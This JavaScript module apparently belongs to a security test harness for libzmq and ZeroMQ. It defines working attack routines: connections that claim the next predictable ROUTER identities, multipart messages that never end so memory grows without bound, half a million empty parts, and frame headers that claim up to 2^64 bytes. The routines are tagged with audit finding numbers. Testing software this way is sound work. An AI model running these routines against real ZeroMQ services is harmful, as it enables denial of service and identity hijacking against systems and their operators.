/** What reaches libzmq before any frame is read: claimed ids, parts without end, huge parts. */
const CLAIMS = 12
const CONNECTIONS = 40
const EMPTY = Buffer.alloc(0)
/** Where ROUTERs of a process begin to count, by the order of their creation: nothing is seeded. */
const FIRST_IDS = [0x6b8b4567, 0xe43c9869, 0xf4b0dc51, 0x2ae8944a, 0xa38e1f29]
/** What is sent in one attempt: enough to see that nothing bounds it. */
const ENDLESS_BYTES_MAX = 128 * 2 ** 20
const TINY_PARTS_MAX = 2_000_000
const ENDED_PARTS = 500_000

/** Sends parts of a message that does not end. */
async function endless(attacker, body, count) {
  const client = await attacker.raw()
  for (let sent = 0; sent < count && !attacker.over; sent++) {
    attacker.count('parts')
    if (client.sendPart(body, true) && sent % 1_000 !== 0) continue
    await Promise.race([attacker.wait(50), client.write(EMPTY)])
    if (client.socket.destroyed) return
    while (client.socket.writableLength > 2 ** 20 && !attacker.over) await attacker.wait(1)
  }
  await attacker.wait(500)
}

function identity(counter) {
  const id = Buffer.alloc(5)
  id.writeUInt32BE(counter >>> 0, 1)
  return id
}

async function hugeFrame(attacker) {
  for (const length of [
    17n * 2n ** 20n,
    2n ** 32n,
    2n ** 40n,
    2n ** 62n,
    2n ** 63n,
    2n ** 64n - 1n,
  ]) {
    if (attacker.over) return
    const client = await attacker.raw()
    const head = Buffer.alloc(9)
    head[0] = 2
    head.writeBigUInt64BE(length, 1)
    client.socket.write(head)
    attacker.count('frames')
    client.socket.write(Buffer.alloc(65_536))
    await Promise.race([client.closed, attacker.wait(200)])
    client.close()
  }
}

export const PARTS = [
  {
    name: 'claimed-ids',
    letter: 'b',
    finding: 'F1',
    abortsLibzmq: 'D-028',
    about: `${CLAIMS * FIRST_IDS.length} connections claim ids that a ROUTER will draw next`,
    run: async (attacker) => {
      for (let id = 0; id < CLAIMS; id++) {
        for (const first of FIRST_IDS) {
          await attacker.raw({ claims: { identity: identity(first + id) } })
          attacker.count('claims')
        }
      }
      for (let id = 0; id < CONNECTIONS; id++) await attacker.raw()
      await attacker.wait(300)
    },
  },
  {
    name: 'endless-multipart',
    letter: 'b',
    finding: 'F3',
    abortsLibzmq: 'D-028',
    about: `a message of parts of 4 KB that does not end, up to ${ENDLESS_BYTES_MAX / 2 ** 20} MiB`,
    run: (attacker) => endless(attacker, Buffer.alloc(4_096), ENDLESS_BYTES_MAX / 4_096),
  },
  {
    name: 'tiny-parts',
    letter: 'b',
    finding: 'F3',
    abortsLibzmq: 'D-028',
    about: `a message of up to ${TINY_PARTS_MAX} empty parts that does not end`,
    run: (attacker) => endless(attacker, EMPTY, TINY_PARTS_MAX),
  },
  {
    name: 'ended-multipart',
    letter: 'b',
    finding: 'F3',
    abortsLibzmq: 'D-028',
    about: `one message of ${ENDED_PARTS} empty parts`,
    run: async (attacker) => {
      const link = await attacker.connect()
      attacker.count('messages')
      await link.send(Array.from({ length: ENDED_PARTS }, () => EMPTY))
      await attacker.untilOver()
    },
  },
  {
    name: 'huge-frames',
    letter: 'b',
    about: 'frames that claim 17 MiB to 2^64 bytes',
    run: hugeFrame,
  },
]
